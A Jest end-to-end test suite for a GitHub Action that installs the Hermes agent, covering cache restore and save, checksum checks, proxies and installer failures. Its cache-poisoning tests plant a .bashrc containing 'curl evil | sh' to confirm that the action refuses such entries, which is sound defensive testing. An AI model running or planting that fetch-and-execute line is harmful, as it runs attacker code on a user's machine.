/**
 * Installing Hermes, end to end through dist/: HOME in a temporary directory, upstream's install
 * script played by simulator/install.sh (served by a loopback HTTP server), the Actions cache through
 * the real @actions/cache client (saves) and the action's own listed restore, against a loopback
 * cache service with its blobs in Azurite.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { CacheService } from '../scripts/cache-service.mjs';
import { ROOT, node24, runAction, startAction, type ActionRun } from '../scripts/local-runner.mjs';
import { cacheVersion } from '../src/cli/install-cache.js';
import { installLayout } from '../src/cli/install-layout.js';
import { parseInstall, PINNED_HERMES_VERSION } from '../src/config/install.js';
import { startAzurite, type Azurite } from './helpers/azurite.js';
import { until } from './helpers/until.js';

const STAND_IN = fs.readFileSync(path.join(ROOT, 'simulator', 'install.sh'));
const STAND_IN_SHA = createHash('sha256').update(STAND_IN).digest('hex');
const SIMULATOR = path.join(ROOT, 'simulator', 'hermes.mjs');
const VERSION_LINE = 'Hermes Agent v0.21.4 (2026.9.20)';
const V = PINNED_HERMES_VERSION.replace(/\./g, '\\.');

let azurite: Azurite;
let cache: CacheService;
let installer: http.Server;
let base = '';
let port = 0;
/** Paths the installer server was asked for, in order. */
const downloads: string[] = [];

beforeAll(async () => {
  azurite = await startAzurite();
  cache = await CacheService.start(azurite);
  installer = http.createServer((req, res) => {
    downloads.push(req.url ?? '');
    if (req.url === '/install.sh') res.writeHead(200).end(STAND_IN);
    else res.writeHead(404).end('Not Found');
  });
  await new Promise<void>(resolve => installer.listen(0, '127.0.0.1', resolve));
  port = (installer.address() as AddressInfo).port;
  base = `http://127.0.0.1:${port}`;
}, 60_000);

afterAll(async () => {
  installer?.closeAllConnections();
  await new Promise<void>(resolve => (installer ? installer.close(() => resolve()) : resolve()));
  await cache?.stop();
  await azurite?.stop();
});

/** A runner machine: its HOME, and a "system" directory holding the `node` the Python links to. */
interface Machine {
  home: string;
  system: string;
  /** What the stand-in was run with: `args: …` and `env: …` lines. */
  log: string;
  root: string;
}

function machine(): Machine {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hermes-install-'));
  const m = {
    root,
    home: path.join(root, 'home'),
    system: path.join(root, 'system'),
    log: path.join(root, 'standin.log')
  };
  newSystem(m);
  fs.mkdirSync(m.home);
  return m;
}

/** A system `node` at a new place, as a new runner image would have it. */
function newSystem(m: Machine): void {
  m.system = `${m.system}-${Math.random().toString(36).slice(2, 8)}`;
  fs.mkdirSync(m.system, { recursive: true });
  fs.symlinkSync(node24(), path.join(m.system, 'node'));
}

/** A fresh runner for the same workflow: nothing of the last job's HOME is left. */
function wipeHome(m: Machine): void {
  fs.rmSync(m.home, { recursive: true, force: true });
  fs.mkdirSync(m.home);
}

interface StepOptions {
  inputs?: Record<string, string>;
  env?: Record<string, string>;
  pathFirst?: string[];
}

function stepOptions(m: Machine, { inputs = {}, env = {}, pathFirst = [] }: StepOptions = {}) {
  return {
    inputs: {
      query: 'Check the build',
      'upload-artifact': 'false',
      'installer-url': `${base}/install.sh`,
      'installer-sha256': STAND_IN_SHA,
      ...inputs
    },
    env: {
      HOME: m.home,
      PATH: [...pathFirst, m.system, '/usr/bin', '/bin'].join(path.delimiter),
      HERMES_STANDIN_SIMULATOR: SIMULATOR,
      HERMES_STANDIN_LOG: m.log,
      ...cache.env(),
      ...env
    },
    simulator: false
  };
}

const step = (m: Machine, options: StepOptions = {}): Promise<ActionRun> =>
  runAction(stepOptions(m, options));

/** The exact key and cached paths the action uses for m with these inputs. */
function layoutOf(m: Machine, inputs: Record<string, string> = {}) {
  const given: Record<string, string> = {
    'installer-url': `${base}/install.sh`,
    'installer-sha256': STAND_IN_SHA,
    ...inputs
  };
  const settings = parseInstall(name => given[name] ?? '');
  return installLayout(
    settings,
    {},
    { home: m.home, platform: process.platform, arch: process.arch }
  );
}

const annotations = (r: ActionRun, kind: string): string[] =>
  r.annotations.filter(a => a.command === kind).map(a => a.message);
/** The summary's Install row. */
const installRow = (r: ActionRun): string | undefined =>
  r.summary.split('\n').find(l => l.startsWith('| Install |'));
const callsOf = (from: number): string[] => cache.calls.slice(from).map(c => c.method);
const argsOf = (m: Machine): string[] =>
  fs
    .readFileSync(m.log, 'utf8')
    .split('\n')
    .filter(l => l.startsWith('args: '));

beforeEach(() => cache.reset());

describe('install: auto (the default), hermes not on PATH', () => {
  test('miss → install → save before the turn; a fresh runner: a hit, no download, the turn runs', async () => {
    const m = machine();
    const asked = downloads.length;
    const first = await step(m);
    expect(first.exitCode).toBe(0);
    expect(first.outputs.outcome).toBe('success');
    expect(first.outputs.agent).toBe(VERSION_LINE);
    expect(first.annotations).toEqual([]);
    expect(downloads.slice(asked)).toEqual(['/install.sh']);
    expect(callsOf(0)).toEqual([
      'GetCacheEntryDownloadURL',
      'CreateCacheEntry',
      'FinalizeCacheEntryUpload'
    ]);
    // One exact key: no restore keys asked for, no run id in it.
    const layout = layoutOf(m);
    expect(cache.calls[0].body).toMatchObject({ key: layout.cacheKey, restore_keys: [] });
    expect(cache.finalized.at(-1)!.key).toBe(layout.cacheKey);
    expect(layout.cacheKey).toMatch(
      new RegExp(`^hermes-agent-${V}-linux-x64-noimage-noversion-r2-`)
    );
    // Saved before Hermes ran: the log says so before the turn's first line.
    const saved = first.log.indexOf(`Saved to the Actions cache as ${layout.cacheKey}`);
    expect(saved).toBeGreaterThan(-1);
    expect(saved).toBeLessThan(first.log.indexOf('is ready (installed)'));
    const bin = path.join(m.home, '.hermes', 'hermes-action', 'bin');
    expect(first.paths).toEqual([bin]);
    expect(fs.readdirSync(bin)).toEqual(['hermes']);
    expect(installRow(first)).toMatch(
      /<code>v0\\\.23\\\.4<\/code> · installed by the install script · /
    );
    expect(installRow(first)).not.toMatch(/not checksum-verified/);
    expect(first.log).toContain(`The install script's SHA-256: ${STAND_IN_SHA}`);
    expect(first.log).toContain('✓ Installed hermes command');
    expect(first.log).not.toContain('\u001b[');
    // Writable by the runner user alone, readable and runnable by others.
    const shim = path.join(layout.installDir, '.hermes', 'bin', 'hermes');
    expect(fs.statSync(shim).mode & 0o777).toBe(0o755);
    expect(fs.statSync(layout.storeDir).mode & 0o777).toBe(0o755);

    wipeHome(m);
    const second = await step(m);
    expect(second.outputs.outcome).toBe('success');
    expect(second.outputs.agent).toBe(VERSION_LINE);
    expect(second.annotations).toEqual([]);
    expect(downloads.slice(asked)).toEqual(['/install.sh']);
    expect(callsOf(3)).toEqual(['GetCacheEntryDownloadURL']);
    expect(installRow(second)).toMatch(
      /<code>v0\\\.23\\\.4<\/code> · restored from the Actions cache · /
    );
    // The cache carried what a run needs and nothing of the user's state.
    expect(fs.existsSync(path.join(m.home, '.local', 'bin', 'hermes'))).toBe(true);
    expect(fs.existsSync(path.join(m.home, '.hermes', 'installs'))).toBe(true);
    for (const state of ['config.yaml', 'logs', 'sessions'])
      expect(fs.existsSync(path.join(m.home, '.hermes', state))).toBe(false);
  }, 120_000);

  test('today’s flags, read from the script: no prompts, the tag, the directories, no browser tools', async () => {
    const m = machine();
    const r = await step(m);
    expect(r.outputs.outcome).toBe('success');
    const home = path.join(m.home, '.hermes');
    expect(argsOf(m)).toEqual([
      `args: --non-interactive --branch ${PINNED_HERMES_VERSION} --dir ${home}/hermes-action/hermes-agent --hermes-home ${home} --skip-browser --skip-computer-use`
    ]);
    expect(fs.readdirSync(path.join(home, 'tools')).sort()).toEqual(['uv-0.12.3-linux-x64']);
    const env = fs
      .readFileSync(m.log, 'utf8')
      .split('\n')
      .find(l => l.startsWith('env: '))!;
    const names = env
      .replace(/^env: /, '')
      .trim()
      .split(' ');
    expect(names).toEqual(expect.arrayContaining(['HOME', 'PATH', 'UV_PYTHON_INSTALL_DIR']));
    for (const secret of [
      'ACTIONS_RUNTIME_TOKEN',
      'ACTIONS_RESULTS_URL',
      'ACTIONS_CACHE_SERVICE_V2'
    ])
      expect(names).not.toContain(secret);
    expect(names.filter(n => n.startsWith('INPUT_'))).toEqual([]);
  }, 60_000);

  test('install-browser: true passes no skip flags, and the tools are installed', async () => {
    const m = machine();
    const r = await step(m, { inputs: { 'install-browser': 'true' } });
    expect(r.outputs.outcome).toBe('success');
    expect(argsOf(m)[0]).not.toMatch(/--skip-browser|--skip-computer-use/);
    expect(fs.readdirSync(path.join(m.home, '.hermes', 'tools')).sort()).toEqual([
      'agent-browser-0.9.1-linux-x64',
      'cua-driver-0.20.0-linux-x64',
      'uv-0.12.3-linux-x64'
    ]);
  }, 60_000);

  test('without a pinned or given SHA-256 the script runs, and the summary says it was not verified', async () => {
    const m = machine();
    const r = await step(m, { inputs: { 'installer-sha256': '', 'hermes-version': 'v0.23.3' } });
    expect(r.outputs.outcome).toBe('success');
    expect(installRow(r)).toMatch(/installed by the install script · not checksum-verified · /);
    expect(annotations(r, 'warning')).toEqual([
      'The install script of Hermes v0.23.3 is not checksum-verified: no SHA-256 is pinned for it; set installer-sha256 to check it.'
    ]);
  }, 60_000);
});

describe('a cache nobody can poison', () => {
  test('a newer entry under another key (the old prefix) is never restored', async () => {
    const m = machine();
    const layout = layoutOf(m);
    // An entry a poisoner saved: newer, its key starting with the real one, the same paths.
    const other = await step(machine());
    expect(other.outputs.outcome).toBe('success');
    const blob = cache.finalized.at(-1)!;
    cache.entries.push({
      ...blob,
      id: cache.nextId++,
      key: `${layout.cacheKey}-999`,
      version: cacheVersion(layout.cachePaths, 'zstd-without-long')
    });
    const asked = downloads.length;
    const r = await step(m);
    expect(r.outputs.outcome).toBe('success');
    expect(downloads.length).toBe(asked + 1);
    expect(installRow(r)).toMatch(/installed by the install script/);
  }, 120_000);

  /**
   * An entry saved under the install's exact key by someone who could write the cache: the files
   * under `src`, archived as @actions/cache archives (-P, absolute names), renamed into m's HOME.
   */
  async function saveUnder(
    m: Machine,
    layout: ReturnType<typeof layoutOf>,
    src: string,
    files: string[]
  ): Promise<void> {
    const archive = path.join(m.root, `${path.basename(src)}-${cache.nextId}.tzst`);
    const tar = spawnSync('tar', [
      '-cf',
      archive,
      '-P',
      '--use-compress-program',
      'zstdmt',
      '--transform',
      `s|^${src}|${m.home}|`,
      ...files
    ]);
    expect(tar.status).toBe(0);
    const blobName = `planted-${cache.nextId}-${Date.now()}/cache.tzst`;
    await cache.container.getBlockBlobClient(blobName).uploadFile(archive);
    cache.entries.push({
      id: cache.nextId++,
      key: layout.cacheKey,
      version: cacheVersion(layout.cachePaths, 'zstd-without-long'),
      blobName,
      finalized: true,
      size: fs.statSync(archive).size
    });
  }

  test('an entry under the exact key holding a path outside the cached folders is refused, unextracted', async () => {
    const m = machine();
    const layout = layoutOf(m);
    const outside = path.join(m.home, '.bashrc');
    const src = path.join(m.root, 'poison');
    fs.mkdirSync(src);
    fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
    // Written as @actions/cache writes (-P), but with an absolute name outside every cached folder.
    await saveUnder(m, layout, src, [path.join(src, '.bashrc')]);
    const r = await step(m);
    expect(r.outputs.outcome).toBe('success');
    expect(fs.existsSync(outside)).toBe(false);
    expect(annotations(r, 'warning')).toEqual([
      expect.stringMatching(
        new RegExp(
          `^The cache entry ${layout.cacheKey} was not restored: ${outside} lies outside the cached folders\\. Installing Hermes afresh`
        )
      )
    ]);
    expect(installRow(r)).toMatch(/installed by the install script/);
    // The key is taken: the fresh install is not saved over it (entries are immutable).
    expect(r.log).toContain(
      `Not saved: the Actions cache already holds an entry ${layout.cacheKey}.`
    );
  }, 120_000);

  test('a bad entry after good ones stops the restore: nothing of the archive is kept, nothing staged is left', async () => {
    const m = machine();
    const layout = layoutOf(m);
    const src = path.join(m.root, 'poison');
    fs.mkdirSync(path.join(src, '.hermes', 'tools'), { recursive: true });
    fs.writeFileSync(path.join(src, '.hermes', 'tools', 'planted'), 'from the archive\n');
    fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
    // The good entries first: they reach tar, into staging, before the bad one is seen.
    await saveUnder(m, layout, src, [
      path.join(src, '.hermes', 'tools'),
      path.join(src, '.bashrc')
    ]);
    const r = await step(m);
    expect(r.outputs.outcome).toBe('success');
    expect(annotations(r, 'warning')).toEqual([
      expect.stringContaining(`${path.join(m.home, '.bashrc')} lies outside the cached folders`)
    ]);
    expect(fs.existsSync(path.join(m.home, '.bashrc'))).toBe(false);
    expect(fs.existsSync(path.join(layout.storeDir, 'planted'))).toBe(false);
    const left = [path.join(m.home, '.hermes'), path.join(m.home, '.local', 'bin')].flatMap(d =>
      fs.readdirSync(d).filter(name => name.includes('.restore-'))
    );
    expect(left).toEqual([]);
    expect(installRow(r)).toMatch(/installed by the install script/);
  }, 120_000);

  test('a hit under umask 077: the tree still readable and runnable by all, writable by its owner alone', async () => {
    const m = machine();
    expect((await step(m)).outputs.outcome).toBe('success');
    wipeHome(m);
    // The action (and tar) inherit this umask: the modes must come from the restore, not from it.
    const before = process.umask(0o077);
    let hit: ActionRun;
    try {
      hit = await step(m);
    } finally {
      process.umask(before);
    }
    expect(hit.outputs.outcome).toBe('success');
    expect(installRow(hit)).toMatch(/restored from the Actions cache/);
    expect(hit.log).toMatch(
      /Restored \d+ entries \(\d+\.\d MB downloaded\), all inside the cached folders/
    );
    const layout = layoutOf(m);
    const modes = new Set<string>();
    for (const folder of layout.cachePaths.filter(p => fs.existsSync(p))) {
      const all = fs.statSync(folder).isDirectory()
        ? fs
            .readdirSync(folder, { recursive: true, withFileTypes: true })
            .map(e => path.join(e.parentPath, e.name))
        : [];
      for (const file of [folder, ...all]) {
        const stat = fs.lstatSync(file);
        if (stat.isSymbolicLink()) continue;
        modes.add(`${stat.isDirectory() ? 'd' : 'f'}${(stat.mode & 0o7777).toString(8)}`);
        expect(stat.uid).toBe(process.getuid!());
      }
    }
    expect([...modes].sort()).toEqual(['d755', 'f644', 'f755']);
    // And the directories the action made on the way, and its own link's.
    for (const dir of [
      '.hermes',
      '.hermes/hermes-action',
      '.hermes/hermes-action/bin',
      '.local/bin'
    ])
      expect((fs.statSync(path.join(m.home, dir)).mode & 0o777).toString(8)).toBe('755');
  }, 120_000);

  test('an event the gate checks (issue_comment) restores but never saves', async () => {
    const m = machine();
    const r = await step(m, {
      inputs: { 'allowed-users': '*' },
      env: { GITHUB_EVENT_NAME: 'issue_comment', GITHUB_ACTOR: 'stranger' }
    });
    expect(r.outputs.outcome).toBe('success');
    expect(callsOf(0)).toEqual(['GetCacheEntryDownloadURL']);
    expect(r.log).toContain(
      'Not saved to the Actions cache: issue_comment events can be caused by people without write access.'
    );
  }, 60_000);

  test('a restored install that fails its version probe is installed again', async () => {
    const m = machine();
    expect((await step(m)).outputs.outcome).toBe('success');
    // The next runner has its system `node` elsewhere: the cached bootstrap Python's link dangles.
    fs.rmSync(m.system, { recursive: true, force: true });
    newSystem(m);
    wipeHome(m);
    const asked = downloads.length;
    const repaired = await step(m);
    expect(repaired.outputs.outcome).toBe('success');
    expect(repaired.annotations).toEqual([]);
    expect(repaired.log).toMatch(
      /The cached install \(hermes-agent-.*\) does not run \(.*--version` failed: hermes: the PM environment .* is missing/
    );
    expect(downloads.length).toBe(asked + 1);
    expect(installRow(repaired)).toMatch(/installed by the install script/);
  }, 120_000);
});

describe('install failures are clear', () => {
  test('a checksum mismatch: not_found, both hashes named, nothing run', async () => {
    const m = machine();
    const wrong = '0'.repeat(64);
    const r = await step(m, { inputs: { 'installer-sha256': wrong } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs.outcome).toBe('not_found');
    expect(annotations(r, 'error')).toEqual([
      `Installing Hermes ${PINNED_HERMES_VERSION} from ${base}/install.sh refused: the script's SHA-256 is ${STAND_IN_SHA}, but ${wrong} was expected (installer-sha256, or the pin of ${PINNED_HERMES_VERSION}). Nothing was run.`
    ]);
    expect(fs.existsSync(m.log)).toBe(false);
  }, 60_000);

  test('a failing installer: not_found with its last lines; nothing cached', async () => {
    const m = machine();
    const r = await step(m, { env: { HERMES_STANDIN_FAIL: '1' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs.outcome).toBe('not_found');
    const dir = `${m.home}/.hermes/hermes-action/hermes-agent`;
    expect(annotations(r, 'error')).toEqual([
      `Installing Hermes ${PINNED_HERMES_VERSION} from ${base}/install.sh failed: the installer exited with code 1. Its last lines:\n` +
        `→ Cloning https://github.com/NousResearch/hermes-agent.git (${PINNED_HERMES_VERSION}) into ${dir}\n` +
        `fatal: Remote branch ${PINNED_HERMES_VERSION} not found in upstream origin\n` +
        '✗ git clone failed; no checkout published'
    ]);
    expect(callsOf(0)).toEqual(['GetCacheEntryDownloadURL']);
    expect(installRow(r)).toMatch(/\*\*install failed\*\* after /);
  }, 60_000);

  const alive = (pid: number): boolean => {
    try {
      process.kill(pid, 0);
      return true;
    } catch {
      return false;
    }
  };

  // A script that hangs past its limit (ignoring SIGTERM) is in install-group.test.ts, in-process.
  test('cancelled during the install: no process of the installer survives', async () => {
    const m = machine();
    const pids = path.join(m.root, 'pids');
    const started = startAction(
      stepOptions(m, { env: { HERMES_STANDIN_HANG: 'term', HERMES_STANDIN_PIDS: pids } })
    );
    await until('the installer started', () => fs.existsSync(pids));
    started.child.kill('SIGINT');
    const r = await started.done;
    expect(r.outputs.outcome).toBe('not_found');
    expect(annotations(r, 'error')[0]).toMatch(/was cancelled with the job\./);
    for (const pid of fs.readFileSync(pids, 'utf8').trim().split(' ').map(Number))
      expect(alive(pid)).toBe(false);
  }, 60_000);

  test('a 404 names the URL', async () => {
    const m = machine();
    const r = await step(m, { inputs: { 'installer-url': `${base}/missing/install.sh` } });
    expect(r.outputs.outcome).toBe('not_found');
    expect(annotations(r, 'error')).toEqual([
      `Installing Hermes ${PINNED_HERMES_VERSION} from ${base}/missing/install.sh failed: the install script ${base}/missing/install.sh answered HTTP 404 Not Found.`
    ]);
  }, 60_000);

  test('the cache service answers 500: Hermes is installed anyway, with one warning', async () => {
    const down = await CacheService.start(azurite);
    down.down = true;
    try {
      const m = machine();
      const r = await step(m, { env: down.env() });
      expect(r.outputs.outcome).toBe('success');
      expect(annotations(r, 'error')).toEqual([]);
      const warnings = annotations(r, 'warning');
      expect(warnings).toHaveLength(1);
      expect(warnings[0]).toMatch(
        /^The Actions cache could not be read \(.*500.*\); installing Hermes without it\.$/
      );
      expect(new Set(down.calls.map(c => c.method))).toEqual(new Set(['GetCacheEntryDownloadURL']));
    } finally {
      await down.stop();
    }
  }, 120_000);
});

describe('the download goes through the runner’s proxy', () => {
  test('an installer behind a loopback HTTP proxy: the proxy sees the request', async () => {
    const seen: string[] = [];
    const proxy = http.createServer((req, res) => {
      // An absolute-form GET: the proxy fetches it itself.
      seen.push(`GET ${req.url}`);
      res.writeHead(200).end(STAND_IN);
    });
    proxy.on('connect', (req, client, head) => {
      seen.push(`CONNECT ${req.url}`);
      const upstream = net.connect(port, '127.0.0.1', () => {
        client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
        upstream.write(head);
        upstream.pipe(client);
        client.pipe(upstream);
      });
      upstream.on('error', () => client.destroy());
      client.on('error', () => upstream.destroy());
    });
    await new Promise<void>(resolve => proxy.listen(0, '127.0.0.1', resolve));
    const proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    try {
      const m = machine();
      // A name @actions/http-client does not bypass (it does for localhost and 127.*), served by the proxy.
      const url = `http://installer.localhost:${port}/install.sh`;
      const r = await step(m, {
        inputs: { 'installer-url': url },
        env: { HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl }
      });
      expect(r.outputs.outcome).toBe('success');
      expect(seen.length).toBeGreaterThan(0);
      expect(seen[0]).toMatch(
        new RegExp(`^(CONNECT installer\\.localhost:${port}|GET ${url.replace(/\./g, '\\.')})$`)
      );
    } finally {
      proxy.closeAllConnections();
      await new Promise<void>(resolve => proxy.close(() => resolve()));
    }
  }, 60_000);
});

describe('install: true', () => {
  test('two steps of one job: the second reuses the first’s install', async () => {
    const m = machine();
    const first = await step(m, { inputs: { install: 'true' } });
    expect(first.outputs.outcome).toBe('success');
    const calls = cache.calls.length;
    const asked = downloads.length;
    const second = await step(m, { inputs: { install: 'true' }, pathFirst: first.paths });
    expect(second.outputs.outcome).toBe('success');
    expect(downloads.length).toBe(asked);
    expect(cache.calls.length).toBe(calls);
    expect(installRow(second)).toMatch(/installed by an earlier step of this job/);
  }, 60_000);

  test('Hermes already on PATH: nothing is installed, nothing asked of the cache', async () => {
    const asked = downloads.length;
    const r = await runAction({
      inputs: {
        query: 'Check the build',
        'upload-artifact': 'false',
        'installer-url': `${base}/install.sh`
      },
      env: cache.env()
    });
    expect(r.outputs.outcome).toBe('success');
    expect(downloads.length).toBe(asked);
    expect(cache.calls.length).toBe(0);
    expect(installRow(r)).toBeUndefined();
  });
});
